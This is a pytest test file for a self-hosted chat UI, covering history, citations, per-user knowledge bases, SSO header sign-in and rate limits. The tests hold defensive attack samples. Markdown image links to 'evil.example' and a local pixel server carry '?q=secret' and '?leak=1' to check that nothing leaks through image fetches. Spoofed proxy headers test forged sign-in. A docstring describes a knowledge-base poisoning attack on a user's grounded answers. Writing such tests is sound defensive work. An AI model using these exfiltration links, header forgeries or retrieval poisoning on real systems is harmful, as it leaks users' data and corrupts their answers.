"""The chat UI: a real gateway and engine, `qwenstack ui`, and a real headless Chromium
(ui_browser.py). Screenshots of the signed-in chats go to $QWENSTACK_TEST_ARTIFACTS/
ui-screenshots (else a temporary folder); the folder is printed at the end of the session.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import re
import signal
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import openai
import pytest
from helpers import HTTP, create_key, free_port, start_gateway, wait_until_answering
from typer.testing import CliRunner, Result
from ui_browser import WAIT_MS, Chat, ChatUI, run_async, running_chat_ui, wait_on_page

from qwenstack import cli
from qwenstack.settings import load_settings
from qwenstack.ui import store, tools
from qwenstack.ui.accounts import AccountError, Accounts, password_matches
from qwenstack.ui.conversation import Conversation, Sampling, chat_models, estimate_tokens
from qwenstack.ui.failures import MessageTooLong, context_too_long, explain
from qwenstack.ui.gateway_keys import UserKey
from qwenstack.ui.knowledge import (
    KnowledgeBaseClient,
    ServiceKey,
    UploadRefused,
    max_upload_mb,
    sources,
)
from qwenstack.ui.markdown import ImageGuard, without_images
from qwenstack.ui.texts import text

pytest.importorskip("playwright.sync_api")
from playwright.sync_api import TimeoutError as PlaywrightTimeout  # noqa: E402

ANSWER_TOKENS = 24
PASSWORDS = {"alice": "alice-password-1", "bob": "bob-password-22", "dave": "dave-password-333",
             "erin": "erin-password-4444", "frank": "frank-password-55555",
             "gina": "gina-password-666666", "hana": "hana-password-7777777"}
PROXY_SECRET = "proxy-secret-for-tests"
# Knowledge bases sized for the tiny model's 1,024-token context: two small chunks at most.
RAG_ENV = {"QWENSTACK_RAG__CHUNK_TOKENS": "64", "QWENSTACK_RAG__CHUNK_OVERLAP_TOKENS": "8",
           "QWENSTACK_RAG__TOP_K": "2", "QWENSTACK_RAG__MAX_UPLOAD_BYTES": "100000"}
NOTES = (b"The lighthouse on Kestrel Point was built in 1887 from grey granite.\n\n"
         b"Its keeper's secret code word is amber-falcon.\n")


# ---- without a browser -------------------------------------------------------------------


def test_history_is_trimmed_from_the_oldest_whole_turns() -> None:
    conversation = Conversation()
    for i in range(5):
        conversation.add("user", f"question {i} " + "x" * 300)
        conversation.add("assistant", f"answer {i} " + "y" * 300)
    conversation.add("user", "last question")
    everything, dropped = conversation.messages("Be brief.", None)
    assert dropped == 0 and len(everything) == 12 and everything[0]["role"] == "system"

    budget = sum(map(estimate_tokens, [everything[0], *everything[-5:]]))  # system, 2 turns, new
    messages, dropped = conversation.messages("Be brief.", budget)
    assert dropped == 3
    roles = [m["role"] for m in messages]
    assert roles == ["system", "user", "assistant", "user", "assistant", "user"]
    assert messages[1]["content"].startswith("question 3")

    # The engine refused what the estimate let through: one more turn goes.
    messages, dropped = conversation.messages("", None, skip_turns=4)
    assert dropped == 4 and messages[0]["content"].startswith("question 4")
    # Never the newest message, however small the budget.
    assert conversation.messages("", 1)[0] == [{"role": "user", "content": "last question"}]


def test_sampling_defaults_follow_the_model_card_and_leave_room_in_the_context() -> None:
    ui = load_settings().ui
    sampling = Sampling("m", "", ui.temperature, ui.top_p, ui.top_k, ui.min_p, 4096)
    request = sampling.request(context_len=1024)
    assert (request["temperature"], request["top_p"]) == (0.7, 0.8)
    assert request["extra_body"] == {"top_k": 20, "min_p": 0.0}
    assert request["max_tokens"] == 512
    assert sampling.request(context_len=None)["max_tokens"] == 4096


def test_the_model_list_offers_chat_models_only() -> None:
    cards = [{"id": "qwen3", "role": "chat"}, {"id": "embedder", "role": "embed"},
             {"id": "reranker", "role": "rerank"}, {"id": "gpt-4o", "role": "chat",
                                                     "alias_of": "qwen3"},
             {"id": "from-an-older-gateway"}]
    assert [card["id"] for card in chat_models(cards)] == ["qwen3", "from-an-older-gateway"]


def test_key_names_come_from_account_ids_and_keys_are_encrypted_at_rest(tmp_path: Path) -> None:
    accounts = store.accounts(load_settings(home=tmp_path))
    # SSO identifiers that differ only in characters a key name cannot hold: two accounts.
    for identifier in ("a@example.com", "a_example.com", "x" * 256):
        accounts.ensure(identifier)
    names = {accounts.gateway_key(i)[0] for i in ("a@example.com", "a_example.com", "x" * 256)}
    assert len(names) == 3
    assert all(re.fullmatch(r"ui-[0-9a-f]{16}", name) for name in names)
    name, secret = accounts.gateway_key("a@example.com")
    assert secret is None and accounts.gateway_key("a@example.com")[0] == name  # stable
    accounts.set_gateway_key("a@example.com", "sk-qs-secret")
    assert accounts.gateway_key("a@example.com") == (name, "sk-qs-secret")
    with accounts.engine.connect() as connection:
        stored = connection.exec_driver_sql("SELECT gateway_key FROM qwenstack_ui_accounts "
                                            "WHERE gateway_key IS NOT NULL").scalar_one()
    assert "sk-qs-secret" not in stored
    # Another database key cannot read it: as good as lost, never garbage.
    other = Accounts(accounts.engine, store.Fernet(store.Fernet.generate_key()))
    assert other.gateway_key("a@example.com") == (name, None)
    # A removed user's successor under the same name gets a new key name.
    accounts.remove("a@example.com")
    accounts.ensure("a@example.com")
    assert accounts.gateway_key("a@example.com")[0] != name
    accounts.engine.dispose()
    assert (tmp_path / "secrets" / "ui-database-key").stat().st_mode & 0o777 == 0o600


def test_an_older_accounts_table_loses_its_plain_text_keys(tmp_path: Path) -> None:
    import sqlalchemy as sa

    old = sa.create_engine(f"sqlite:///{tmp_path / 'ui.db'}")
    with old.begin() as connection:
        connection.exec_driver_sql(
            "CREATE TABLE qwenstack_ui_accounts (identifier VARCHAR(256) PRIMARY KEY, "
            "password_hash VARCHAR(256), gateway_key VARCHAR(128), created_at DATETIME)")
        connection.exec_driver_sql("INSERT INTO qwenstack_ui_accounts VALUES "
                                   "('alice', NULL, 'sk-qs-plain', '2026-01-01 00:00:00')")
    old.dispose()
    accounts = store.accounts(load_settings(home=tmp_path))
    name, secret = accounts.gateway_key("alice")
    assert secret is None and name.startswith("ui-") and name != "ui-alice"
    with accounts.engine.connect() as connection:
        assert "sk-qs-plain" not in str(connection.exec_driver_sql(
            "SELECT * FROM qwenstack_ui_accounts").all())
    accounts.engine.dispose()


def test_citations_become_literal_sources_and_answers_load_no_images() -> None:
    shown = sources([
        {"source": "a.pdf", "page": 3, "heading": None, "text": "word " * 100},
        {"source": "b.md", "page": None, "heading": "Intro\n# Big", "text": "short\ntext"},
        {"source": "![x](https://evil.example/a.png)", "page": None, "heading": None,
         "text": "[click](https://evil.example) ```` fence"},
    ])
    lines = shown.splitlines()
    # A fenced block, longer than any backtick run inside: nothing in it is Markdown.
    assert lines[0] == "`````text" and lines[-1] == "`````"
    assert lines[1].startswith("1. a.pdf, p. 3: word word") and lines[1].endswith("…")
    assert lines[2] == "2. b.md, Intro # Big: short text"
    assert (max_upload_mb(1), max_upload_mb(2**20), max_upload_mb(2**20 + 1)) == (1, 1, 2)

    assert without_images("see ![a](https://evil.example/?q=secret) and ![b][ref]") == (
        "see !\\[a](https://evil.example/?q=secret) and !\\[b][ref]")
    # Streamed: an image split across pieces is caught too.
    guard = ImageGuard()
    pieces = ["look!", "[x](http", "s://evil.example/p.png)", " done!"]
    assert "".join([*map(guard.feed, pieces), guard.flush()]) == (
        "look!\\[x](https://evil.example/p.png) done!")


def test_only_bases_the_session_offered_are_picked_or_deleted_from(tmp_path: Path) -> None:
    """The pick and a delete button's payload come back from the browser: anything this
    session did not offer (as writable, for a delete) falls back to the user's own base, or
    does nothing."""
    # Importing chainlit writes its config files into its app root: not into the checkout.
    os.environ.setdefault("CHAINLIT_APP_ROOT", str(tmp_path))
    from qwenstack.ui import documents
    from qwenstack.ui.knowledge import Readable

    own, team, read_only = (Readable("ui-1", True, True), Readable("handbook", False, True),
                            Readable("policies", False, False))
    offered = [own, team, read_only]
    assert documents.picker(offered, "en").items == {
        "My uploads": "ui-1", "handbook": "handbook", "policies": "policies"}
    assert documents.chosen({"knowledge_base": "handbook"}, offered) == team
    for picked in ("vault", None, ["handbook"]):
        assert documents.chosen({"knowledge_base": picked}, offered) == own
    assert documents.deletable({"base": "handbook", "file": "a.txt"}, offered) == (team, "a.txt")
    for payload in ({"base": "policies", "file": "a.txt"}, {"base": "vault", "file": "a.txt"},
                    {"base": "handbook", "file": 3}, "handbook", None):
        assert documents.deletable(payload, offered) is None


def _status_error(status: int, body: dict, headers: dict[str, str] | None = None) -> Exception:
    request = httpx.Request("POST", "http://gateway/v1/chat/completions")
    response = httpx.Response(status, json=body, headers=headers, request=request)
    client = openai.AsyncOpenAI(api_key="k", base_url="http://gateway/v1")
    return client._make_status_error_from_response(response)  # as the SDK raises them


@pytest.mark.parametrize("error, key, values", [
    (_status_error(429, {"error": {"message": "Rate limit", "code": "rate_limit_exceeded"}},
                   {"retry-after": "17"}), "rate_limited", {"retry": 17}),
    (_status_error(503, {"error": {"message": "No engine is ready"}}, {"retry-after": "3"}),
     "engine_unavailable", {"retry": 3}),
    (_status_error(504, {"error": {"message": "The engine stopped answering"}}),
     "engine_unavailable", {"retry": 5}),
    (_status_error(403, {"error": {"message": "not allowed", "code": "model_not_allowed"}}),
     "model_not_allowed", {"model": "m"}),
    (_status_error(400, {"error": {"message": "bad temperature"}}),
     "gateway_error", {"status": 400, "message": "bad temperature"}),
    (openai.APIConnectionError(request=httpx.Request("POST", "http://gateway")),
     "gateway_down", {"url": "http://gateway"}),
    (MessageTooLong(1024), "too_long", {"context": 1024}),
    (UploadRefused(400, "locked.pdf is encrypted"), "upload_refused",
     {"status": 400, "message": "locked.pdf is encrypted"}),
])
def test_errors_become_texts_in_both_languages(error: Exception, key: str, values: dict) -> None:
    assert explain(error, model="m", gateway_url="http://gateway", timeout_s=600) == (key, values)
    for language in ("zh", "en"):
        assert text(key, language, **values)
    assert explain(RuntimeError("?"), model="m", gateway_url="", timeout_s=1) is None


def test_context_errors_of_vllm_and_the_gateway_are_recognised() -> None:
    vllm = _status_error(400, {"error": {"message": "This model's maximum context length is 1024 "
                                                    "tokens. However, your request has 1510 input "
                                                    "tokens.", "code": 400}})
    gateway = _status_error(400, {"error": {"message": "max_tokens too large",
                                            "code": "context_length_exceeded"}})
    other = _status_error(400, {"error": {"message": "bad temperature"}})
    assert context_too_long(vllm) and context_too_long(gateway) and not context_too_long(other)


def _users(home: Path, *args: str, password: str | None = None) -> Result:
    """`qwenstack users ...`, in this process (each subprocess would spend seconds importing)."""
    return CliRunner().invoke(
        cli.app, ["users", *args, "--home", str(home)],
        input=f"{password}\n{password}\n" if password is not None else None,
    )


def test_users_cli_stores_hashes_and_refuses_bad_input_clearly(tmp_path: Path) -> None:
    home = tmp_path / "home"
    assert _users(home, "add", "carol", password="correct horse").exit_code == 0
    for args, password, says in [
        (("add", "carol"), "another password", "exists already"),
        (("add", "no spaces allowed"), "long enough", "User name"),
        (("add", "dave"), "short", "at least 8"),
        (("remove", "nobody"), None, "No user named"),
    ]:
        out = _users(home, *args, password=password)
        # A clear message and exit status 1, not an exception.
        assert out.exit_code == 1 and says in out.stderr, out.output
        assert isinstance(out.exception, SystemExit)
    listing = _users(home, "list")
    assert "carol" in listing.stdout and "password" in listing.stdout

    accounts = store.accounts(load_settings(home=home))
    with accounts.engine.connect() as connection:
        stored = connection.exec_driver_sql(
            "SELECT password_hash FROM qwenstack_ui_accounts").scalar_one()
    assert "correct horse" not in stored and password_matches("correct horse", stored)
    assert accounts.check_password("carol", "correct horse")
    assert not accounts.check_password("carol", "wrong horse")
    assert not accounts.check_password("nobody", "correct horse")
    with pytest.raises(AccountError):
        Accounts(accounts.engine).add("carol", "correct horse")
    accounts.engine.dispose()
    assert _users(home, "remove", "carol").exit_code == 0
    assert "carol" not in _users(home, "list").stdout


@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_history_tables_take_chainlit_writes(
    backend: str, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    """The tables made here hold what Chainlit's data layer writes, and list per user."""
    # Importing chainlit writes its config files into its app root: not into the checkout.
    os.environ.setdefault("CHAINLIT_APP_ROOT", str(tmp_path))
    from chainlit.data.sql_alchemy import SQLAlchemyDataLayer
    from chainlit.types import Pagination, ThreadFilter
    from chainlit.user import User

    url = request.getfixturevalue("postgres_url") if backend == "postgresql" else None
    settings = load_settings(home=tmp_path, **{"ui.database_url": url})
    store.connect(settings).dispose()
    store.connect(settings).dispose()  # a restart finds the tables there

    async def scenario() -> None:
        layer = SQLAlchemyDataLayer(conninfo=store.async_database_url(settings))
        try:
            alice = await layer.create_user(User(identifier="alice", metadata={"sign_in": "pw"}))
            bob = await layer.create_user(User(identifier="bob"))
            assert alice and bob
            thread_id = str(uuid.uuid4())
            await layer.update_thread(thread_id, name="lighthouse", user_id=alice.id)
            now = await layer.get_current_timestamp()
            step = {
                "id": str(uuid.uuid4()), "threadId": thread_id, "parentId": None, "name": "alice",
                "type": "user_message", "command": None, "modes": None, "streaming": False,
                "waitForAnswer": None, "isError": False, "metadata": {"kind": "answer"},
                "tags": None, "input": "", "output": "hello", "createdAt": now, "start": now,
                "end": now, "generation": None, "showInput": "json", "defaultOpen": False,
                "autoCollapse": False, "language": None, "icon": None,
            }
            # Unwrapped: the wrapper queues writes until a browser session's first message.
            await SQLAlchemyDataLayer.create_step.__wrapped__(layer, step)
            page = await layer.list_threads(Pagination(first=10), ThreadFilter(userId=alice.id))
            assert [t["id"] for t in page.data] == [thread_id]
            assert [s["output"] for s in page.data[0]["steps"]] == ["hello"]
            others = await layer.list_threads(Pagination(first=10), ThreadFilter(userId=bob.id))
            assert others.data == []
            assert await layer.get_thread_author(thread_id) == "alice"
        finally:
            await layer.engine.dispose()

    asyncio.run(scenario())


# ---- in the browser -----------------------------------------------------------------------


@pytest.fixture(scope="module")
def chat_ui(
    engine_url: str, tiny_qwen3: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[ChatUI]:
    tmp = tmp_path_factory.mktemp("ui")
    # Chunks measured in the served model's tokens; the UI reads the same upload limit.
    rag_env = {**RAG_ENV, "QWENSTACK_RAG__TOKENIZER": str(tiny_qwen3)}
    gateway = start_gateway(tmp, engine_url, auth=True, env=rag_env)
    with running_chat_ui(gateway, tmp, PASSWORDS, {
        **rag_env, "QWENSTACK_UI__MAX_TOKENS": str(ANSWER_TOKENS),
        "QWENSTACK_UI__HEADER_LOGIN": "X-Forwarded-User",
        "QWENSTACK_UI__HEADER_LOGIN_SECRET": PROXY_SECRET,
    }) as ui:
        yield ui


def test_chat_streams_keeps_history_and_shows_it_only_to_its_owner(
    chat_ui: ChatUI, browser: object, screenshots: Path
) -> None:
    alice = Chat(browser, chat_ui, "alice")
    alice.wait_for_text("Welcome to the")
    # Messages render Markdown: the welcome's **model name** is bold.
    welcome = alice.page.locator("[data-step-type=assistant_message]").first
    welcome.locator(".font-bold", has_text="tiny-qwen3").wait_for()
    key = chat_ui.user_key("alice")[0]

    first = "Tell me a long story about a lighthouse keeper named Ada and her cat."
    alice.send(first)
    wait_on_page(alice.page, lambda: len(chat_ui.requests(key)) == 1, "the first chat request")
    # Token by token: several stream_token events reached the page, and the answer shows.
    wait_on_page(alice.page, lambda: alice.stream_tokens >= 3, "streamed tokens")
    # The answer, then a line with its token counts (test_ui_agent.py) under it.
    wait_on_page(alice.page, lambda: alice.assistant_texts()[-1].startswith("Tokens:"),
                 "the answer and its token counts on the page")
    answer = alice.assistant_texts()[-2]
    assert answer.strip()
    alice.page.screenshot(path=str(screenshots / "alice-first-answer.png"))

    alice.send("Go on.")
    wait_on_page(alice.page, lambda: len(chat_ui.requests(key)) == 2, "the follow-up request")
    one, two = chat_ui.requests(key)
    assert one["status"] == two["status"] == 200
    # "Go on." alone is shorter than the first message: a longer prompt carried the first turn.
    assert two["prompt_tokens"] > one["prompt_tokens"] + 5, (one, two)
    assert one["completion_tokens"] <= ANSWER_TOKENS

    # After a reload the chat is in the history; opened, it shows both turns.
    alice.page.reload()
    history = alice.page.locator("#thread-history")
    history.get_by_text("lighthouse keeper").first.click()
    alice.page.wait_for_url(re.compile(r"/thread/"))
    thread_url = alice.page.url
    alice.wait_for_text(first)
    alice.wait_for_text("Go on.")
    alice.page.get_by_text(answer.strip()[:20]).first.wait_for()
    alice.page.screenshot(path=str(screenshots / "alice-history.png"))
    # Resumed from the database, the chat goes on with its history.
    alice.send("And then?")
    wait_on_page(alice.page, lambda: len(chat_ui.requests(key)) == 3, "the request after resuming")
    assert chat_ui.requests(key)[2]["prompt_tokens"] > two["prompt_tokens"] + 5

    # A new chat starts clean: "Go on." goes alone, shorter than the first message was.
    alice.page.locator("#new-chat-button").click()
    wait_on_page(alice.page,
                 lambda: [t[:14] for t in alice.assistant_texts()] == ["Welcome to the"],
                 "the new chat's welcome")
    alice.send("Go on.")
    wait_on_page(alice.page, lambda: len(chat_ui.requests(key)) == 4, "the new chat's request")
    assert chat_ui.requests(key)[3]["prompt_tokens"] < one["prompt_tokens"]

    # Bob (a Chinese browser) sees his own welcome, and not Alice's chat.
    bob = Chat(browser, chat_ui, "bob", locale="zh-CN")
    bob.wait_for_text("欢迎使用")
    bob.page.locator("#thread-history").wait_for()
    assert "lighthouse" not in bob.page.locator("#thread-history").inner_text()
    bob.page.goto(thread_url)
    bob.page.locator("#chat-input").wait_for()
    bob.page.wait_for_timeout(2000)  # give a wrongly shown thread time to load
    assert first not in bob.page.locator("body").inner_text()
    bob.page.screenshot(path=str(screenshots / "bob-cannot-see-alice.png"))
    bob.close()
    alice.close()


def _send_with_file(chat: Chat, path: Path, text: str) -> None:
    """Send a message with a file attached, once Chainlit has stored the file."""
    with chat.page.expect_response(lambda r: "/project/file" in r.url
                                   and r.request.method == "POST") as stored:
        chat.page.locator("#upload-button-input").set_input_files(str(path))
    assert stored.value.ok, stored.value.text()
    chat.page.locator("#chat-input").fill(text)
    # The send button, not Enter: it waits until the attachment is ready, Enter is lost before.
    chat.page.locator("#chat-submit").click()


def test_uploads_ground_their_owners_answers_with_citations_and_stay_theirs(
    chat_ui: ChatUI, browser: object, screenshots: Path, tmp_path: Path
) -> None:
    from pypdf import PdfWriter

    # A document with a Markdown image pointing at a server that counts its visitors: the
    # sources quote it, and the browser must not fetch it.
    fetched: list[str] = []

    class Pixel(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (http.server's name)
            fetched.append(self.path)
            self.send_response(204)
            self.end_headers()

    pixel_server = ThreadingHTTPServer(("127.0.0.1", 0), Pixel)
    threading.Thread(target=pixel_server.serve_forever, daemon=True).start()
    pixel = f"http://127.0.0.1:{pixel_server.server_port}/p.png"
    notes = tmp_path / "kestrel-notes.txt"
    notes.write_bytes(NOTES + f"![p]({pixel}?leak=1)\n".encode())
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt("secret")
    locked = tmp_path / "locked.pdf"
    with locked.open("wb") as file:
        writer.write(file)
    erin = Chat(browser, chat_ui, "erin")
    erin.wait_for_text("Welcome to the")
    key = chat_ui.user_key("erin")[0]

    _send_with_file(erin, notes, "What is the secret code word of the Kestrel Point lighthouse "
                                 "keeper?")
    erin.wait_for_text("was added to your documents (")
    wait_on_page(erin.page, lambda: len(chat_ui.requests(key)) == 1, "the grounded request")
    # The answer's sources name the file and quote it.
    cited = erin.page.locator("[data-step-type=assistant_message]", has_text="Sources:").last
    cited.wait_for()
    assert "kestrel-notes.txt" in cited.inner_text() and "amber-falcon" in cited.inner_text()
    # The image is quoted as text: no <img>, no request to its server.
    assert f"![p]({pixel}" in cited.inner_text()
    erin.page.wait_for_timeout(1000)  # time for an image load, were there one
    assert erin.page.locator(f"img[src*='{pixel_server.server_port}']").count() == 0
    assert fetched == []
    pixel_server.shutdown()
    erin.page.screenshot(path=str(screenshots / "erin-grounded-answer.png"))
    grounded = chat_ui.requests(key)[0]
    assert grounded["status"] == 200
    # The gateway put the document and its instructions before the question.
    assert grounded["prompt_tokens"] > 100, grounded

    # A bad file is a message in the chat, and its question is not sent without it. (In a new
    # chat: under Playwright, a second attachment in one chat did not reach the app.)
    erin.page.locator("#new-chat-button").click()
    erin.wait_for_text("Welcome to the")
    _send_with_file(erin, locked, "What does the locked file say?")
    erin.wait_for_text("Your files could not be added to your documents (400)")
    erin.wait_for_text("encrypted")
    assert len(chat_ui.requests(key)) == 1

    # The base is Erin's alone: made by the UI's key, her key its one writer.
    base, erin_key = chat_ui.user_key("erin")
    mine = httpx.get(f"{chat_ui.gateway.url}/v1/knowledge_bases/{base}", timeout=60,
                     headers={"authorization": f"Bearer {erin_key}"})
    assert mine.status_code == 200, mine.text
    assert (mine.json()["owner"], mine.json()["writers"], mine.json()["readers"]) == (
        "ui", [key], [])
    assert mine.json()["files"] == 1

    # Frank, another user, with his own key: her base is as if it did not exist.
    frank = Chat(browser, chat_ui, "frank")
    frank.wait_for_text("Welcome to the")
    frank_key = chat_ui.user_key("frank")[1]
    headers = {"authorization": f"Bearer {frank_key}"}
    gateway = chat_ui.gateway.url
    for response in (
        httpx.get(f"{gateway}/v1/knowledge_bases/{base}", headers=headers, timeout=60),
        httpx.post(f"{gateway}/v1/knowledge_bases/{base}/query", headers=headers, timeout=60,
                   json={"query": "secret code word"}),
        httpx.post(f"{gateway}/v1/chat/completions", headers=headers, timeout=120, json={
            "model": "tiny-qwen3", "knowledge_bases": [base], "max_tokens": 4,
            "messages": [{"role": "user", "content": "What is the secret code word?"}]}),
    ):
        assert response.status_code == 404, response.text
    listed = httpx.get(f"{gateway}/v1/knowledge_bases", headers=headers, timeout=60)
    assert base not in [kb["name"] for kb in listed.json()["data"]]
    # The chat's search tool, as the UI runs it for each (test_ui_agent.py): Erin's finds her
    # file; Frank's searches his own base only, with his key: nothing, never hers.
    for user, finds in (("erin", "amber-falcon"), ("frank", "Nothing in the user's documents")):
        name, secret = chat_ui.user_key(user)
        assert secret
        knowledge_base = KnowledgeBaseClient(chat_ui.gateway.url, UserKey(name, secret),
                                             ServiceKey("ui", chat_ui.service_key), 60)
        search = tools.document_search(knowledge_base)
        assert finds in run_async(search.run({"query": "the keeper's secret code word"}))
    frank.close()
    erin.close()


def test_a_team_base_picked_in_the_settings_grounds_the_chat_and_lists_its_files(
    chat_ui: ChatUI, browser: object, screenshots: Path
) -> None:
    """Hana's key may write the team base `handbook` (granted by an admin) and not read
    `vault`: the settings offer her own uploads (the default) and `handbook` only; picked, it
    grounds her answers, cited by file with each passage a click away, and its file list
    deletes a file."""
    hana = Chat(browser, chat_ui, "hana")
    hana.wait_for_text("Welcome to the")
    key, _ = chat_ui.user_key("hana")
    gateway, admin = chat_ui.gateway.url, {"authorization": f"Bearer {chat_ui.service_key}"}
    for name, writers in (("handbook", [key]), ("vault", [])):
        made = httpx.post(f"{gateway}/v1/knowledge_bases", headers=admin, timeout=300,
                          json={"name": name, "writers": writers})
        assert made.status_code == 201, made.text
        uploaded = httpx.post(f"{gateway}/v1/knowledge_bases/{name}/files", headers=admin,
                              timeout=300, files=[("file", (f"{name}-notes.txt", NOTES)),
                                                  ("file", ("old-memo.txt", b"Lunch at noon."))])
        assert uploaded.status_code == 200, uploaded.text

    hana.page.reload()  # a new session: the settings list the bases her key may read now
    hana.wait_for_text("Welcome to the")
    hana.page.locator("#chat-settings-open-modal").click()
    hana.page.locator("#knowledge_base").click()
    options = hana.page.get_by_role("option")
    options.first.wait_for()
    assert options.all_inner_texts() == ["My uploads", "handbook"]
    options.filter(has_text="handbook").click()
    hana.page.locator("#confirm").click()
    hana.wait_for_text("Answers now draw on")

    hana.page.get_by_role("button", name="Files").last.click()
    hana.wait_for_text("Files in")
    hana.page.get_by_role("button", name="Delete old-memo.txt").click()
    hana.wait_for_text("Deleted from")
    files = httpx.get(f"{gateway}/v1/knowledge_bases/handbook/files", headers=admin, timeout=60)
    assert [f["name"] for f in files.json()["data"]] == ["handbook-notes.txt"]

    hana.send("What is the secret code word of the Kestrel Point lighthouse keeper?")
    cited = hana.page.locator("[data-step-type=assistant_message]", has_text="Sources:").last
    cited.wait_for()
    assert "handbook-notes.txt" in cited.inner_text(), cited.inner_text()
    assert "vault" not in cited.inner_text()
    # The whole passage, a click away: the notice links it by name.
    cited.get_by_text("Passage 1").first.click()
    hana.page.get_by_text("Its keeper's secret code word is amber-falcon.").last.wait_for()
    grounded = chat_ui.requests(key)[-1]
    assert grounded["status"] == 200 and grounded["prompt_tokens"] > 100, grounded
    hana.page.screenshot(path=str(screenshots / "hana-team-base.png"))
    hana.close()


STACK_WITH_UI = """
import sys, uvloop
from qwenstack import stack
from qwenstack.settings import load_settings

settings = load_settings()
uvloop.run(stack.run(settings, engines=False, gateway=True, ui=True,
                     on_ready=lambda urls: print("ready", flush=True)))
"""


@pytest.mark.parametrize("ending", [signal.SIGTERM, signal.SIGKILL], ids=lambda s: s.name)
def test_the_stack_runs_the_ui_beside_the_gateway_and_its_end_stops_both(
    engine_url: str, tmp_path: Path, ending: signal.Signals
) -> None:
    """What `qwenstack up` does once its engines are up (those are tested elsewhere). Killed
    (SIGKILL, as the OOM killer does), the stack takes the UI with it within 5 s: the UI's
    lifeline sees the stack's end."""
    gateway_port, ui_port = free_port(), free_port()
    log = tmp_path / "stack.log"
    env = {**os.environ, "QWENSTACK_HOME": str(tmp_path / "home"),
           "QWENSTACK_ENGINE__URLS": engine_url, "QWENSTACK_GATEWAY__PORT": str(gateway_port),
           "QWENSTACK_UI__PORT": str(ui_port)}
    process = subprocess.Popen([sys.executable, "-c", STACK_WITH_UI], env=env,
                               stdout=log.open("wb"), stderr=subprocess.STDOUT)
    ui_url = f"http://127.0.0.1:{ui_port}"
    try:
        wait_until_answering(process, f"{ui_url}/login", log, 120)
        # No admin key was configured: the UI made its own in the stack's key store.
        secrets = tmp_path / "home" / "secrets"
        assert (secrets / "ui-admin-key").stat().st_mode & 0o777 == 0o600
        # No account existed: a first one signs in at once, its password in a private file.
        password_file = secrets / "ui-admin-password"
        assert password_file.stat().st_mode & 0o777 == 0o600
        password = password_file.read_text().strip()
        signed_in = httpx.post(f"{ui_url}/login", timeout=30,
                               data={"username": "admin", "password": password})
        assert signed_in.status_code == 200, signed_in.text
        wrong = httpx.post(f"{ui_url}/login", timeout=30,
                           data={"username": "admin", "password": password + "x"})
        assert wrong.status_code == 401, wrong.text
    finally:
        process.send_signal(ending)
        code = process.wait(60)
    assert code == (0 if ending == signal.SIGTERM else -signal.SIGKILL), log.read_text()[-3000:]
    deadline = time.monotonic() + 5
    for url in (ui_url, f"http://127.0.0.1:{gateway_port}/health"):
        while True:
            try:
                HTTP.get(url, timeout=5)
            except httpx.ConnectError:
                break
            except httpx.TransportError:  # reset while it answered: going down, look again
                pass
            assert time.monotonic() < deadline, f"{url} still answers"
            time.sleep(0.1)


def _header_session(chat_ui: ChatUI, browser: object, headers: dict[str, str]) -> object:
    """A browser page on the UI, sent through an 'SSO proxy' that sets these headers."""
    context = browser.new_context(extra_http_headers=headers)  # type: ignore[attr-defined]
    context.set_default_timeout(WAIT_MS)
    page = context.new_page()
    page.goto(chat_ui.url)
    return page


def test_sso_header_sign_in_needs_the_proxy_secret_and_spares_password_users(
    chat_ui: ChatUI, browser: object
) -> None:
    page = _header_session(chat_ui, browser, {"X-Forwarded-User": "carol@example.com",
                                              "X-Proxy-Secret": PROXY_SECRET})
    page.locator("#chat-input").wait_for()  # type: ignore[attr-defined]
    page.get_by_text("Welcome to the").first.wait_for()  # type: ignore[attr-defined]
    # Her own key: made on her first chat, named after her account, not her e-mail address.
    name, secret = chat_ui.user_key("carol@example.com")
    assert secret and name in chat_ui.gateway.log.read_text()
    assert "carol" not in name
    page.context.close()  # type: ignore[attr-defined]

    # Past the proxy (no secret, a wrong one), or naming a password user: no sign-in.
    for headers in ({"X-Forwarded-User": "mallory@example.com"},
                    {"X-Forwarded-User": "mallory@example.com", "X-Proxy-Secret": "guess"},
                    {"X-Forwarded-User": "alice", "X-Proxy-Secret": PROXY_SECRET}):
        page = _header_session(chat_ui, browser, headers)
        page.wait_for_url(re.compile(r"/login"))  # type: ignore[attr-defined]
        page.locator("input[type=password]").wait_for()  # type: ignore[attr-defined]
        page.context.close()  # type: ignore[attr-defined]
    with pytest.raises(AccountError):
        chat_ui.user_key("mallory@example.com")


def test_rate_limit_is_a_message_with_the_wait(chat_ui: ChatUI, browser: object) -> None:
    # Dave's key, as the UI makes it with ui.user_key_rpm 1: made here, its secret stored
    # (encrypted) where the UI keeps it.
    name, _ = chat_ui.user_key("dave")
    secret = create_key(chat_ui.gateway.home, "--name", name, "--rpm", "1")
    accounts = store.accounts(load_settings(home=chat_ui.gateway.home))
    accounts.set_gateway_key("dave", secret)
    accounts.engine.dispose()
    dave = Chat(browser, chat_ui, "dave")
    dave.wait_for_text("Welcome to the")
    dave.send("Hello there.")
    wait_on_page(dave.page, lambda: len(chat_ui.requests(name)) == 1, "an answer")
    dave.send("Hello again.")
    dave.wait_for_text("You have reached your usage limit; please try again in about")
    assert chat_ui.requests(name)[-1]["status"] == 429
    dave.close()


def test_a_key_cannot_take_over_a_chat_users_documents(
    chat_ui: ChatUI, browser: object, tmp_path: Path
) -> None:
    """Issue 12's attack: a key made the base the UI would use for a user, with itself as a
    writer, and uploaded a poisoned file; the user's answers were grounded on it and her
    uploads went into it."""
    gateway = chat_ui.gateway.url
    mallory = {"authorization": f"Bearer {create_key(chat_ui.gateway.home, '--name', 'mallory')}"}
    poison = [("file", ("faq.txt", b"The lighthouse code word is mallory-wins."))]
    victim, _ = chat_ui.user_key("gina")  # her key does not exist yet: she never chatted
    # The attacker's key (no admin) can neither make a `ui-` base nor grant one to a key name
    # nobody holds yet.
    for body in ({"name": victim, "writers": ["mallory", victim]}, {"name": "ui-alice"}):
        made = httpx.post(f"{gateway}/v1/knowledge_bases", headers=mallory, json=body, timeout=300)
        assert made.status_code == 400, made.text
        assert made.json()["error"]["code"] == "reserved_knowledge_base_name"
